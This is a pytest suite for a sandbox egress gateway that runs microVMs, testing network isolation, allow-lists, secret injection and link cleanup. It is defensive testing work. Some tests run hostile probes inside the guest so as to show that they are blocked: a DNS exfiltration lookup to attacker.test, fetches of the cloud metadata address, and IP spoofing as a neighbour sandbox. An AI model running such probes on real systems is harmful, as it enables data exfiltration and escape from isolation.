"""The vm tier behind the egress gateway (SECURITY.md V5, V7): real microVMs (TCG where /dev/kvm is missing)
with egress on, real clients inside the guest (busybox wget, nslookup, tftp), and the upstream namespace,
servers of egressfixtures.py (its module fixtures are imported here, so both modules share one
definition of the test network). Each VM's NIC is a host tap `spc<N>` that QEMU inherits as a descriptor;
its guest configures the sandbox end at hand-over. Nothing here sends a packet beyond loopback, the
sandboxes' own links and the test namespace."""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

import pytest

import spacelib
from spacefixtures import PYTHON_ROOTFS, vm_unavailable_reason
from egressfixtures import NET, UPSTREAM, run as _run, sh, skip as _skip, upstream, upstream_log  # noqa: F401  (fixture)

# busybox: a 403 from the gateway is a non-zero exit. Not wget -T: Debian's busybox 1.35 crashes with it.
WGET = "timeout 10 wget -q -O -"
ALLOW_ALLOWED = {"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]}


def spc_links() -> set[str]:
    return {n for n in os.listdir("/sys/class/net") if n.startswith("spc")}


@pytest.fixture(scope="module")
def vm_net(upstream):
    """A spaced with egress on (test_egress.py's settings) and a VM pool of one for the busybox template,
    whose VM artifacts are made first (one boot under emulation). Creates take the pooled VM when one is
    ready and restore a fresh one otherwise, so both paths run."""
    from spacefixtures import _current_daemons, baseline_uid_procs, start_daemon_with_busybox, stop_and_check
    config = {"pool_size": 0, "vm_pool_size": 1, "pool_templates": "busybox", "default_template": "busybox",
              "egress": True, "egress_test_external_subnets": [NET + "0/24"],
              "egress_upstream_resolvers": UPSTREAM + ":53", "egress_upstream_ca_file": upstream["ca"]}
    baseline = baseline_uid_procs()
    links_before = spc_links()
    d = start_daemon_with_busybox(config)
    problems = []
    try:
        if "egress: on" not in d.log_path.read_text(errors="replace"):
            _skip(f"spaced did not turn egress on:\n{d.log_tail()}")
        reason = vm_unavailable_reason(d.client)
        if reason:
            _skip(reason)
        d.client.call("POST", "/v1/templates/busybox/warm", {})
        yield d
    finally:
        if d.alive():
            problems = stop_and_check(d, baseline, 1)
        # Nothing of this daemon's may be left but the pooled VM (a VMM mid-prepare at the kill -9 of spaced
        # is cleaned by reconcile, found by its directory).
        pool_left = d.sandbox_dir_ids() - d.client.created
        stray = [p for p in spacelib.all_pids() if str(d.state).encode() + b"/" in
                 spacelib.read(f"/proc/{p}/cmdline").encode() and not any(i in spacelib.read(f"/proc/{p}/cmdline")
                                                                         for i in pool_left)]
        if stray:
            problems.append(f"processes of this daemon's state dir left behind: {stray}")
        d.force_cleanup()  # the pooled VM's QEMU and the state dir
        if d in _current_daemons:
            _current_daemons.remove(d)
        # The pooled VM outlived spaced by design and was killed by the harness: its tap went with it.
        deadline = time.monotonic() + 5
        while spc_links() - links_before and time.monotonic() < deadline:
            time.sleep(0.1)
        left = spc_links() - links_before
        for link in left:
            _run("ip", "link", "del", link, check=False)
        if left:
            problems.append(f"sandbox links left behind: {sorted(left)}")
        if not _run("pgrep", "-x", "space-egress", check=False).stdout.split():
            _run("nft", "delete", "table", "inet", "space", check=False)
    assert d.egress_pid() is None, "space-egress outlived the test daemon's teardown"
    assert not problems, "\n".join(problems)


def pool_creates(d) -> int:
    for line in d.client.metrics().splitlines():
        if line.startswith('space_sandbox_creates_total{source="pool"}'):
            return int(line.split()[-1])
    raise AssertionError("no pool counter in /metrics")


def wait_pool_ready(d, timeout=120):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for line in d.client.metrics().splitlines():
            if line.startswith("space_pool_ready{") and "vm" in line and not line.endswith(" 0"):
                return
        time.sleep(0.5)
    raise AssertionError(f"the VM pool did not fill:\n{d.log_tail()}")


def create_vm(d, **kw) -> str:
    return d.client.create(isolation="vm", **kw)["id"]


def link_of(subnet: str) -> str:
    network = int.from_bytes(bytes(int(p) for p in subnet.split("/")[0].split(".")), "big")
    return "spc%x" % (network >> 2)


def qemu_pid(sid: str) -> int:
    needle = f"/sandboxes/{sid}/qmp.sock".encode()
    for pid in spacelib.all_pids():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if needle in f.read():
                    return pid
        except OSError:
            continue
    raise AssertionError(f"no QEMU process for {sid}")


def taps_of(pid: int) -> list[str]:
    """The tap devices the process holds descriptors of (tun fdinfo names the interface)."""
    out = []
    for fd in os.listdir(f"/proc/{pid}/fdinfo"):
        for line in spacelib.read(f"/proc/{pid}/fdinfo/{fd}").splitlines():
            if line.startswith("iff:"):
                out.append(line.split(":", 1)[1].strip())
    return out


def net_log(d, sid) -> list[dict]:
    status, _, body = d.client.raw("GET", f"/v1/sandboxes/{sid}/network/log")
    assert status == 200, body
    return [json.loads(x) for x in body.decode().splitlines() if x.strip()]


def http_paths(up, since=0) -> list[str]:
    return [e["path"] for e in upstream_log(up)[since:] if e["kind"] == "http"]


# ------------------------------------------------------------------------------------------------ tests


def test_v5_vm_has_one_nic_on_its_tap_and_the_gateway_settings(vm_net):
    d = vm_net
    sid = create_vm(d)
    try:
        net = d.client.call("GET", f"/v1/sandboxes/{sid}/network")
        assert net["mode"] == "deny-all" and net["subnet"].endswith("/30"), net
        gw = net["gateway"]
        guest_ip = gw.rsplit(".", 1)[0] + "." + str(int(gw.rsplit(".", 1)[1]) + 1)
        r = sh(d, sid, "ls /sys/class/net; ip -4 addr show eth0; ip route; cat /etc/resolv.conf; env | sort")
        assert r.exit_code == 0, (r.out, r.err)
        lines = r.out.split()
        assert lines[:2] == ["eth0", "lo"], r.out  # exactly one NIC
        assert f"inet {guest_ip}/30" in r.out, r.out
        assert f"default via {gw} dev eth0" in r.out, r.out
        assert f"nameserver {gw}" in r.out, r.out
        assert f"HTTP_PROXY=http://{gw}:3128" in r.out and f"https_proxy=http://{gw}:3128" in r.out, r.out
        assert "SSL_CERT_FILE=" in r.out, r.out
        # The CA is in the guest's trust store.
        assert "BEGIN CERTIFICATE" in sh(d, sid, "cat /usr/local/share/ca-certificates/space.crt").out
        # Host side: the tap exists, carries .1, and is the only network descriptor QEMU holds.
        link = link_of(net["subnet"])
        assert Path(f"/sys/class/net/{link}").exists(), f"tap {link} missing"
        assert f"inet {gw}/30" in subprocess.run(["ip", "-4", "addr", "show", link], capture_output=True,
                                                  text=True).stdout
        assert taps_of(qemu_pid(sid)) == [link]
        # Its own MAC, not the template's: two VMs differ.
        other = create_vm(d)
        try:
            macs = {sh(d, s, "cat /sys/class/net/eth0/address").out.strip() for s in (sid, other)}
            assert len(macs) == 2, macs
        finally:
            d.client.delete(other)
    finally:
        d.client.delete(sid)
    assert not Path(f"/sys/class/net/{link}").exists(), f"tap {link} left after delete"


def test_v7_vm_deny_all_blocks_everything(vm_net, upstream):
    d = vm_net
    sid = create_vm(d)
    try:
        before = len(upstream_log(upstream))
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-deny-all; echo rc=$?")
        assert "rc=0" not in r.out and "/vm-deny-all" not in r.out, r.out
        r = sh(d, sid, f"{WGET} -Y off http://{UPSTREAM}/vm-direct; echo rc=$?")
        assert "rc=0" not in r.out and "/vm-direct" not in r.out, r.out
        assert any(x.get("verdict") == "deny" for x in net_log(d, sid))  # refused by the gateway
        time.sleep(0.5)
        assert not http_paths(upstream, before), "requests reached the upstream under deny-all"
    finally:
        d.client.delete(sid)


def test_v7_vm_allow_list_allows_only_the_allowed_name(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network=ALLOW_ALLOWED)
    try:
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-via-proxy")
        assert r.exit_code == 0 and '"path": "/vm-via-proxy"' in r.out, (r.out, r.err)
        # Transparent: the name resolves through the gateway's DNS, the connection is redirected.
        r = sh(d, sid, f"{WGET} -Y off http://allowed.test/vm-transparent")
        assert r.exit_code == 0 and '"path": "/vm-transparent"' in r.out, (r.out, r.err)
        r = sh(d, sid, f"{WGET} http://other.test/vm-not-allowed; echo rc=$?")
        assert "rc=0" not in r.out, r.out
        paths = http_paths(upstream)
        assert "/vm-via-proxy" in paths and "/vm-transparent" in paths and "/vm-not-allowed" not in paths
        assert any(x.get("verdict") == "deny" and x.get("name") == "other.test" for x in net_log(d, sid))
    finally:
        d.client.delete(sid)


def test_v7_vm_metadata_and_private_addresses_are_denied(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network={"mode": "allow-all-public"})
    try:
        for target in ("169.254.169.254", "10.0.0.1"):
            for how in ("", "-Y off "):
                r = sh(d, sid, f"{WGET} {how}http://{target}/vm-meta; echo rc=$?")
                assert "rc=0" not in r.out and "/vm-meta" not in r.out, (target, how, r.out)
        assert any(x.get("verdict") == "deny" and "169.254.169.254" in json.dumps(x) for x in net_log(d, sid))
    finally:
        d.client.delete(sid)


def test_v7_vm_dns_nxdomain_and_direct_udp_leave_nothing(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network=ALLOW_ALLOWED)
    try:
        before = len(upstream_log(upstream))
        label = "vmexfil" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {label}.attacker.test; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        # Aimed straight at the upstream resolver: redirected to the gateway's, which asks nobody.
        r = sh(d, sid, f"nslookup {label}.example {UPSTREAM}; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        assert UPSTREAM in sh(d, sid, "nslookup allowed.test").out
        # A datagram to any other UDP port (tftp sends its request to the port given) is dropped.
        r = sh(d, sid, f"timeout 3 tftp -g -r probe -l /tmp/probe {UPSTREAM} 5353; echo rc=$?")
        assert "rc=0" not in r.out, r.out
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "udp"], f"a direct datagram reached the upstream: {after}"
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
    finally:
        d.client.delete(sid)


@pytest.fixture(scope="module")
def python_vm_template(vm_net):
    """The python template (curl, python3, a CA bundle) as VM artifacts: an ext4 image of the tree and one
    warm-up boot under emulation."""
    if not (PYTHON_ROOTFS / "usr" / "bin" / "curl").exists():
        _skip(f"no python rootfs with curl at {PYTHON_ROOTFS}")
    if not any(t.get("name") == "python" for t in vm_net.client.templates()):
        vm_net.client.build_template("python", str(PYTHON_ROOTFS))
    vm_net.client.call("POST", "/v1/templates/python/warm", {}, timeout=600)
    return "python"


def test_v7_vm_secret_is_injected_and_never_seen_inside(vm_net, upstream, python_vm_template):
    """curl in the guest verifies the gateway's certificate against the sandbox CA that spaced put into the
    guest's trust store, sends the placeholder, and the upstream gets the real value."""
    d = vm_net
    value = "sk-vm-" + os.urandom(16).hex()
    d.client.call("POST", "/v1/secrets", {"name": "VM_TOKEN", "value": value, "hosts": ["secret.test"],
                                          "header": "Authorization", "format": "Bearer {}"})
    sid = create_vm(d, template=python_vm_template, secrets=["VM_TOKEN"],
                    network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "secret.test"}]})
    try:
        placeholder = sh(d, sid, "echo $VM_TOKEN").out.strip()
        assert placeholder.startswith("space_ph_") and value not in placeholder, placeholder
        for how in ("", "--noproxy '*' "):  # through the explicit proxy (CONNECT), and transparent
            r = sh(d, sid, f'curl -sS --max-time 20 {how}https://secret.test/echo -H "Authorization: Bearer $VM_TOKEN"')
            assert r.exit_code == 0, (how, r.out, r.err)
            assert value not in r.out and placeholder in r.out, r.out
            seen = [e for e in upstream_log(upstream) if e["kind"] == "http" and e["path"] == "/echo"]
            assert seen and seen[-1]["headers"].get("Authorization") == f"Bearer {value}", seen
        r = sh(d, sid, f"grep -rl {value} /etc /root /tmp /usr/local 2>/dev/null; env | grep -c {value}; true")
        assert value not in r.out and r.out.strip().endswith("0"), r.out
    finally:
        d.client.delete(sid)
        d.client.call("DELETE", "/v1/secrets/VM_TOKEN")


def test_vm_network_survives_kill9_of_spaced_and_stray_links_are_reconciled(vm_net, upstream):
    d = vm_net
    sid = create_vm(d, network=ALLOW_ALLOWED)
    stray = "spcfffff0"
    try:
        net = d.client.call("GET", f"/v1/sandboxes/{sid}/network")
        link = link_of(net["subnet"])
        assert sh(d, sid, f"{WGET} http://allowed.test/vm-before").exit_code == 0
        d.proc.kill()  # kill -9: the gateway and the VM stay
        d.proc.wait(10)
        # A tap that belongs to no sandbox (a crash between making it and recording it).
        subprocess.run(["ip", "tuntap", "add", stray, "mode", "tap"], check=True, capture_output=True)
        d.start()
        assert not Path(f"/sys/class/net/{stray}").exists(), "reconcile kept a stray sandbox link"
        assert Path(f"/sys/class/net/{link}").exists(), "reconcile removed a live VM's tap"
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-after-restart")
        assert r.exit_code == 0 and "/vm-after-restart" in r.out, (r.out, r.err)
        r = sh(d, sid, f"{WGET} http://other.test/vm-still-denied; echo rc=$?")
        assert "rc=0" not in r.out, r.out
        # A new VM gets another subnet: the restarted daemon knows this one is taken.
        other = create_vm(d)
        try:
            assert d.client.call("GET", f"/v1/sandboxes/{other}/network")["subnet"] != net["subnet"]
        finally:
            d.client.delete(other)
    finally:
        subprocess.run(["ip", "link", "del", stray], capture_output=True)
        d.client.delete(sid)
    assert not Path(f"/sys/class/net/{link}").exists(), f"tap {link} left after delete"


def test_pooled_vm_has_its_tap_before_the_request_and_its_network_after(vm_net, upstream):
    d = vm_net
    wait_pool_ready(d)
    links = spc_links()
    taken = pool_creates(d)
    sid = create_vm(d, network=ALLOW_ALLOWED)
    try:
        assert pool_creates(d) == taken + 1, "the create did not take the pooled VM"
        net = d.client.call("GET", f"/v1/sandboxes/{sid}/network")
        assert link_of(net["subnet"]) in links, "the pooled VM's tap was not made at prepare"
        r = sh(d, sid, f"{WGET} http://allowed.test/vm-pooled")
        assert r.exit_code == 0 and "/vm-pooled" in r.out, (r.out, r.err)
        r = sh(d, sid, f"{WGET} http://other.test/vm-pooled-denied; echo rc=$?")
        assert "rc=0" not in r.out, r.out
    finally:
        d.client.delete(sid)


def test_forked_and_rolled_back_vms_each_reach_the_gateway_as_themselves(vm_net, upstream):
    """A fork child restores its parent's memory (its NIC configured with the parent's address) and gets
    its own /30, tap and address at hand-over; a rolled-back VM keeps its own. Each request is audited
    under the sandbox that made it."""
    d = vm_net
    parent = create_vm(d, network=ALLOW_ALLOWED)
    kids = []
    try:
        assert sh(d, parent, f"{WGET} http://allowed.test/parent-before").exit_code == 0
        s = d.client.call("POST", f"/v1/sandboxes/{parent}/snapshots", {})
        out = d.client.call("POST", f"/v1/sandboxes/{parent}/fork", {"count": 2, "snapshot": s["id"]})
        kids = [k["id"] for k in out["sandboxes"]]
        subnets = {sid: d.client.call("GET", f"/v1/sandboxes/{sid}/network")["subnet"] for sid in [parent] + kids}
        assert len(set(subnets.values())) == 3, subnets
        for sid in [parent] + kids:
            addr = sh(d, sid, "ip -4 -o addr show | grep -v ' lo '").out.strip()
            assert len(addr.splitlines()) == 1, (sid, addr)
            want = subnets[sid].split("/")[0].rsplit(".", 1)
            assert f"{want[0]}.{int(want[1]) + 2}/30" in addr, (sid, addr, subnets[sid])
            r = sh(d, sid, f"{WGET} http://allowed.test/from-{sid}")
            assert r.exit_code == 0 and f'"path": "/from-{sid}"' in r.out, (sid, r.out, r.err)
            assert any(x.get("verdict") == "allow" and f"/from-{sid}" in json.dumps(x) for x in net_log(d, sid)), sid
            assert not sh(d, sid, f"{WGET} http://other.test/denied-{sid}; echo rc=$?").out.strip().endswith("rc=0")
        d.client.call("POST", f"/v1/sandboxes/{parent}/rollback", {"snapshot": s["id"]})
        r = sh(d, parent, f"{WGET} http://allowed.test/parent-after-rollback")
        assert r.exit_code == 0 and '"path": "/parent-after-rollback"' in r.out, (r.out, r.err)
        assert d.client.call("GET", f"/v1/sandboxes/{parent}/network")["subnet"] == subnets[parent]
    finally:
        for sid in kids + [parent]:
            d.client.delete(sid)


def spoof_drops() -> int:
    """Packets the host dropped on sandbox links for a source not routed back through that link."""
    out = _run("nft", "list", "chain", "inet", "space", "antispoof").stdout
    for line in out.splitlines():
        if "fib saddr . iif oif missing" in line:
            return int(line.split("counter packets")[1].split()[0])
    raise AssertionError(f"no reverse-path rule in the antispoof chain:\n{out}")


def test_v8_a_vm_sending_as_its_neighbour_gets_nothing_under_the_neighbours_policy(vm_net, upstream):
    """Guest root owns its kernel: it takes a neighbour jail's address and sends DNS from it to its own
    gateway address. Dropped on the host before the redirect: the neighbour's allow-list is never applied,
    nothing is resolved upstream, and the neighbour's audit holds nothing of it. The neighbour's own query
    for such a name does reach the upstream (the spoof would have worked)."""
    d = vm_net
    wildcard = {"mode": "allow-list", "rules": [{"action": "allow", "domain": "*.allowed.test"}]}
    neighbour = d.client.create(network=wildcard)["id"]
    sid = create_vm(d)  # deny-all
    try:
        n_gw = d.client.call("GET", f"/v1/sandboxes/{neighbour}/network")["gateway"]
        n_ip = n_gw.rsplit(".", 1)[0] + "." + str(int(n_gw.rsplit(".", 1)[1]) + 1)
        gw = d.client.call("GET", f"/v1/sandboxes/{sid}/network")["gateway"]
        label = "v8" + os.urandom(4).hex()
        before, drops_before = len(upstream_log(upstream)), spoof_drops()
        r = sh(d, sid, f"ip addr add {n_ip}/32 dev eth0 && ip route replace {gw} dev eth0 src {n_ip} && "
                       f"ip route get {gw}; timeout 5 nslookup {label}.allowed.test {gw}; echo rc=$?")
        assert f"src {n_ip}" in r.out, r.out  # the guest really sent as its neighbour
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
        assert not [x for x in net_log(d, neighbour) if label in json.dumps(x)], net_log(d, neighbour)
        assert spoof_drops() > drops_before, "the host dropped nothing on the VM's link"
        # Control: the neighbour itself may resolve such names, so the spoofed query would have gone out.
        r = sh(d, neighbour, f"nslookup ctl-{label}.allowed.test; echo rc=$?")
        time.sleep(0.5)
        assert [e for e in upstream_log(upstream)[before:] if e["kind"] == "dns" and f"ctl-{label}" in e["name"]], r.out
    finally:
        d.client.delete(sid)
        d.client.delete(neighbour)
